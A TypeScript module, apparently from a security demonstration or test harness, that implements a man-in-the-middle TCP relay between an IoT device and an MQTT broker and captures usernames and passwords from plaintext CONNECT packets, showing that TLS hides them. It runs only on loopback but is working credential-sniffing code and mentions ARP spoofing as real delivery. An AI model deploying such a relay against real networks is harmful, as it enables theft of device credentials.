/**
 * The attacker on the wire: a TCP relay between a device and the broker. It forwards every byte both
 * ways unchanged and reads the client's first packet as an MQTT CONNECT: over plaintext MQTT that gives
 * away the account's username and password; over TLS it sees only ciphertext. A device is pointed at the
 * relay's port (as ARP spoofing or a rogue access point would do on a real LAN).
 * @module
 */

import { CONNECT_SNIFF_MAX_BYTES, readConnect } from "./connect_packet.ts";
import type { RelayObservation, RelayView } from "./options.ts";

/** Where the relay listens and where it forwards. */
export interface RelayOptions {
  /** The broker, as `host:port` of its TCP (or TLS) listener. */
  target: { hostname: string; port: number };
  /** Loopback port to listen on (default 0: any free port). */
  port?: number;
}

/** A running relay. */
export interface Relay extends RelayView {
  /** The port devices should connect to. */
  readonly port: number;
  /** Stops listening and closes every relayed connection. */
  close(): Promise<void>;
}

/**
 * Starts a relay on 127.0.0.1 in front of `target`.
 * @example
 * ```ts
 * const relay = startRelay({ target: { hostname: "127.0.0.1", port: 1883 } });
 * const device = await connectMqtt({ url: `mqtt://127.0.0.1:${relay.port}`, username, password });
 * relay.observations(); // [{ readable: true, username: "door-sensor-1", password: … }]
 * ```
 */
export function startRelay(options: RelayOptions): Relay {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: options.port ?? 0 });
  const observations: RelayObservation[] = [];
  const open = new Set<Deno.Conn>();
  const pipes = new Set<Promise<void>>();

  const relayOne = async (client: Deno.Conn) => {
    open.add(client);
    let broker: Deno.Conn;
    try {
      broker = await Deno.connect(options.target);
    } catch {
      open.delete(client);
      client.close();
      return;
    }
    open.add(broker);
    const seen: RelayObservation = { readable: false };
    observations.push(seen);
    let head = new Uint8Array(0);
    let sniffing = true;
    const sniff = (chunk: Uint8Array) => {
      if (!sniffing) return;
      const joined = new Uint8Array(head.length + chunk.length);
      joined.set(head);
      joined.set(chunk, head.length);
      head = joined;
      const reading = readConnect(head);
      if (reading.ok) {
        seen.readable = true;
        if (reading.username !== undefined) seen.username = reading.username;
        if (reading.password !== undefined) seen.password = reading.password;
      }
      if (reading.ok || reading.code !== "INCOMPLETE" || head.length >= CONNECT_SNIFF_MAX_BYTES) {
        sniffing = false;
        head = new Uint8Array(0);
      }
    };
    const endBoth = () => {
      for (const c of [client, broker]) {
        if (open.delete(c)) c.close();
      }
    };
    // Either side closing ends the relayed connection, as it would end a direct one.
    const directions = [copy(client, broker, sniff), copy(broker, client)];
    await Promise.race(directions);
    endBoth();
    await Promise.all(directions);
  };

  const accepting = (async () => {
    for await (const client of listener) {
      const pipe = relayOne(client).catch(() => {});
      pipes.add(pipe);
      pipe.finally(() => pipes.delete(pipe));
    }
  })().catch(() => {});

  return {
    port: (listener.addr as Deno.NetAddr).port,
    observations: () => observations,
    async close() {
      listener.close();
      await accepting;
      for (const c of open) c.close();
      open.clear();
      await Promise.all(pipes);
    },
  };
}

/** Copies `from` to `to` until either end closes; `tap` sees each chunk first. */
async function copy(from: Deno.Conn, to: Deno.Conn, tap?: (chunk: Uint8Array) => void): Promise<void> {
  const buffer = new Uint8Array(16 * 1024);
  try {
    for (;;) {
      const n = await from.read(buffer);
      if (n === null) return;
      const chunk = buffer.slice(0, n);
      tap?.(chunk);
      let written = 0;
      while (written < n) written += await to.write(chunk.subarray(written));
    }
  } catch {
    // A reset or a close from the other pipe ends this one too.
  }
}
